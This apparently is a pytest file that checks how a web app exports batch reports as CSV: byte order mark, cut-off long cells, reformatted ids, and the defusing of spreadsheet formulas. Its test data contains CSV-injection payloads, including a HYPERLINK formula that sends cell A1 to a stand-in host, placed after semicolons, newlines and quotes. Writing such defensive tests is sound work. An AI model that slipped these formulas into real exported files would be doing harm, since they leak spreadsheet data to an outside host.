"""The report as CSV in a spreadsheet: umlauts, long cells, ids, formulas behind another separator."""

import csv
import io
import json
import re
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
import requests

from app.web.csv import COLUMNS, csv_lines
from tests.support.batches import Batch
from tests.support.server import LiveServer, SharedServers
from tests.support.waiting import LIMIT_SECONDS

MOST_UNITS = 32_767  # of UTF-16, in a cell of Excel
ATTACK = 'HYPERLINK("http://x.example/?"&A1)'
ANSWERS = {
    "umlauts": "Größe: 5 µm",
    "longest": "x" * MOST_UNITS,
    "long": "x" * 40_000 + "END",
    "emoji": "\U0001f600" * 20_000,  # two units each
    "formula": "a;=" + ATTACK,
    "spaces": "a; \t=" + ATTACK,
    "plus": "a;+1;-2;@A1",
    "line": "first\n=" + ATTACK + "\r\n@A1",
    "hyphen": "first\n- " + ATTACK,
    "list": "Points:\n- one\n- two; three\n  - four",
    "quote": 'a;"=' + ATTACK + '"',
    "number": "0.50",
}
CHANGED_BY_SPREADSHEETS = [
    "007", "1e5", "12E3", "12345678901234567890", "1.50", "1,5", "3-4", "2026-01-05", "5/2026", "12:30", "50%", "MAR1",
    "1-jan", "Sept 2", "3. Okt", "TRUE", "wahr", "(5)", "$5", " 7",
]  # fmt: skip
KEPT_BY_SPREADSHEETS = ["17", "0", "123456789012345", "doc-17", "a1", "customer 5", "marten12x", "1a", "x/2026", "..."]


class Report:
    """A run whose answers are ANSWERS, and whose ids are of both kinds; and its CSV."""

    def __init__(self, server: LiveServer, http: requests.Session) -> None:
        ids = [*ANSWERS, *CHANGED_BY_SPREADSHEETS, *KEPT_BY_SPREADSHEETS]
        lines = [{"custom_id": each, "method": "POST", "url": "/v1/chat/completions", "body": {}} for each in ids]
        batch = Batch(server, http, lines="\n".join(map(json.dumps, lines)))
        batch.ask("stage")
        batch.ask("run")
        call = {"worker": "w", "max_tasks": 1000, "batch_id": int(batch.url.rpartition("/")[2])}
        leased = http.post(f"{server.url}/api/tasks/lease", json=call, timeout=LIMIT_SECONDS).json()["tasks"]
        reports = [
            {
                "task_id": task["id"],
                "lease_token": task["lease_token"],
                "outcome": "completed",
                "result": {"text": ANSWERS.get(task["payload"]["custom_id"], "")},
            }
            for task in leased
        ]
        http.post(f"{server.url}/api/tasks/report", json={"reports": reports}, timeout=LIMIT_SECONDS).raise_for_status()
        self.server, self.http, self.batch_id = server, http, call["batch_id"]
        answer = http.get(f"{batch.url}/report?format=csv", timeout=LIMIT_SECONDS)
        self.raw = answer.content
        rows = list(csv.DictReader(io.StringIO(self.raw.decode("utf-8-sig"), newline=""), strict=True))
        self.answers: Mapping[str, str] = {row["custom_id"]: row["answer"] for row in rows}
        self.task_ids = {row["custom_id"]: row["task_id"] for row in rows}


@pytest.fixture(scope="module")
def report(shared_servers: SharedServers) -> Iterator[Report]:
    server = shared_servers("sqlite").server
    with server.session() as http:
        yield Report(server, http)


def units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def test_a_byte_order_mark_names_utf_8(report: Report) -> None:
    """Without it, Excel reads the file in an encoding of its own, and umlauts are broken."""
    assert report.raw.startswith(b"\xef\xbb\xbftask_id,")
    assert report.raw.count(b"\xef\xbb\xbf") == 1
    assert report.answers["umlauts"] == ANSWERS["umlauts"]


def test_no_cell_is_longer_than_a_spreadsheet_allows(report: Report) -> None:
    rows = csv.reader(io.StringIO(report.raw.decode("utf-8-sig"), newline=""))
    assert max(units(cell) for row in rows for cell in row) <= MOST_UNITS


def test_the_longest_cell_is_whole(report: Report) -> None:
    assert report.answers["longest"] == ANSWERS["longest"]


@pytest.mark.parametrize("name", ["long", "emoji"])
def test_a_long_cell_is_cut_with_a_mark_and_the_tasks_address(report: Report, name: str) -> None:
    found = re.fullmatch(r"(.+) \[cut: the whole text has ([\d,]+) characters, see (http\S+)\]", report.answers[name])
    assert found, report.answers[name][-200:]
    assert ANSWERS[name].startswith(found[1])
    assert found[2] == f"{len(ANSWERS[name]):,}"
    task: dict[str, Any] = report.http.get(found[3], timeout=LIMIT_SECONDS).json()
    assert task["result"] == {"text": ANSWERS[name]}


def test_ids_that_a_spreadsheet_would_change_stay_text(report: Report) -> None:
    assert [each for each in CHANGED_BY_SPREADSHEETS if f"'{each}" not in report.answers] == []


def test_other_ids_are_as_they_were_sent(report: Report) -> None:
    assert [each for each in KEPT_BY_SPREADSHEETS if each not in report.answers] == []
    assert all(each.isdecimal() for each in report.task_ids.values())


def test_an_answer_that_is_a_number_stays_a_number(report: Report) -> None:
    assert report.answers["number"] == "0.50"


@pytest.mark.parametrize(
    ("name", "disarmed"),
    [
        ("formula", f"a;'={ATTACK}"),
        ("spaces", f"a;' \t={ATTACK}"),
        ("plus", "a;'+1;'-2;'@A1"),
        ("line", f"first\n'={ATTACK}\r\n'@A1"),
        ("hyphen", f"first\n'- {ATTACK}"),
        ("quote", f'a;\'"={ATTACK}"'),
        ("list", ANSWERS["list"]),
    ],
)
def test_a_formula_is_disarmed_after_another_separator(report: Report, name: str, disarmed: str) -> None:
    """Where the list separator is `;`, a spreadsheet divides a cell there, and each line of it is a row."""
    assert report.answers[name] == disarmed


def test_a_formula_within_json_is_disarmed_and_the_json_stays_equal() -> None:
    answer = {"a;=1": 'x; "=1', "b;": -1, "c": ["d;", "=1"]}
    row = {name: answer if name == "answer" else "" for name in COLUMNS}
    text = b"".join(csv_lines([row], str)).decode("utf-8-sig")
    (found,) = csv.DictReader(io.StringIO(text, newline=""), strict=True)
    assert json.loads(found["answer"]) == answer
    assert not re.search(r';[ "\\]*=', found["answer"])


def test_the_page_names_its_own_address_of_a_task(report: Report) -> None:
    """A browser that is signed in can open it."""
    with requests.Session() as visitor:
        form = visitor.get(f"{report.server.url}/sign-in", timeout=LIMIT_SECONDS).text
        values = {"csrf_token": re.findall(r'name="csrf_token"[^>]* value="([^"]+)"', form)[0]}
        values["token"] = report.server.tokens["viewer"]
        visitor.post(f"{report.server.url}/sign-in", data=values, timeout=LIMIT_SECONDS).raise_for_status()
        page = f"{report.server.url}/batches/{report.batch_id}"
        text = visitor.get(f"{page}/report.csv", timeout=LIMIT_SECONDS).text
        addresses = re.findall(r"see (http[^\]]+)\]", text)
        assert addresses == [f"{page}/tasks/{report.task_ids[name]}" for name in ("long", "emoji")]
        assert visitor.get(addresses[0], timeout=LIMIT_SECONDS).status_code == 200
